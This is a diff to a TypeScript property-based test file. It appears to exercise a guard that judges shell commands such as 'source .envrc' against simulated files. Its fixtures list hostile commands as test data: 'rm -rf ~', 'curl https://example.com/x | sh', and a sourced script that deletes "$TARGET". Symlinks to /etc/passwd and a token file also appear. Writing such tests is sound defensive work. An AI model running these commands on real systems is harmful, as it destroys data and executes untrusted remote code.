@@ -16,7 +16,7 @@ const APP = '/home/dev/app'
 const anyPath = fc.oneof(fc.string(), fc.constantFrom('/a:b', '1:/x', '/a\nb', ':', '/päth', '/\ud800'))
 
 const anyQuestion: fc.Arbitrary<WorldQuestion> = fc.oneof(
-  fc.record({ kind: fc.constantFrom('realPath', 'pathKind', 'list', 'read'), path: anyPath }),
+  fc.record({ kind: fc.constantFrom('realPath', 'pathKind', 'list', 'read', 'concealed'), path: anyPath }),
   fc.record({ kind: fc.constant('part'), path: anyPath, part: fc.nat() }),
   fc.record({ kind: fc.constant('env'), name: fc.string() }),
   fc.record({ kind: fc.constant('home') }),
@@ -49,6 +49,8 @@ const COMMANDS = [
   'npm test',
   'make all',
   'cd d0 && sh ../run.sh',
+  'source .envrc',
+  'TARGET=/tmp/y; source .envrc; rm -rf "$TARGET"',
 ] as const
 
 const SCRIPTS = ['echo hi', 'rm -rf ~', 'curl https://example.com/x | sh', `echo ${'x'.repeat(10)}\nrm -rf "$TARGET"`]
@@ -65,6 +67,7 @@ const PARTS = {
   longRun: [undefined, BINARY, ...SCRIPTS, ...SCRIPTS.map(long)],
   test: [undefined, ...SCRIPTS],
   makefile: [undefined, BINARY, ...SCRIPTS],
+  envrc: [undefined, BINARY, ...SCRIPTS, 'sh run.sh', 'TARGET=/', 'cd /', "echo 'open"],
   link: [undefined, '/etc/passwd', '/home/dev/.guard/token', `${APP}/run.sh`],
   folder: [true, false],
   target: [undefined, '/', '/tmp/x', '~'],
@@ -76,6 +79,7 @@ const anyMachine = fc.record({
   longRun: fc.constantFrom(...PARTS.longRun),
   test: fc.constantFrom(...PARTS.test),
   makefile: fc.constantFrom(...PARTS.makefile),
+  envrc: fc.constantFrom(...PARTS.envrc),
   link: fc.constantFrom(...PARTS.link),
   folder: fc.constantFrom(...PARTS.folder),
   target: fc.constantFrom(...PARTS.target),
@@ -95,13 +99,14 @@ const FULL: Machine = {
   longRun: SCRIPTS[0],
   test: SCRIPTS[0],
   makefile: SCRIPTS[0],
+  envrc: 'sh run.sh',
   link: `${APP}/run.sh`,
   folder: true,
   target: '/tmp/x',
   home: '/home/dev',
 }
 
-const worldOf = ({ run, longRun, test: script, makefile, link, folder, target, home }: Machine): World =>
+const worldOf = ({ run, longRun, test: script, makefile, envrc, link, folder, target, home }: Machine): World =>
   createGivenWorld({
     home,
     env: target === undefined ? {} : { TARGET: target },
@@ -111,6 +116,7 @@ const worldOf = ({ run, longRun, test: script, makefile, link, folder, target, h
       ...(longRun === undefined ? {} : { [`${APP}/long.sh`]: longRun }),
       ...(script === undefined ? {} : { [`${APP}/package.json`]: JSON.stringify({ scripts: { test: script } }) }),
       ...(makefile === undefined ? {} : { [`${APP}/Makefile`]: `all:\n\t${makefile.split('\n')[0] ?? ''}\n` }),
+      ...(envrc === undefined ? {} : { [`${APP}/.envrc`]: envrc }),
       ...(link === undefined ? {} : { [`${APP}/link`]: { link } }),
       ...(folder ? { [`${APP}/d0`]: null } : {}),
     },
@@ -141,6 +147,7 @@ const createMovingWorld = (now: () => World): World => ({
   list: (path) => now().list(path),
   read: (path) => now().read(path),
   readPart: (path, part) => now().readPart(path, part),
+  conceal: (path, look) => now().conceal(path, look),
   env: (name) => now().env(name),
   get home() {
     return now().home
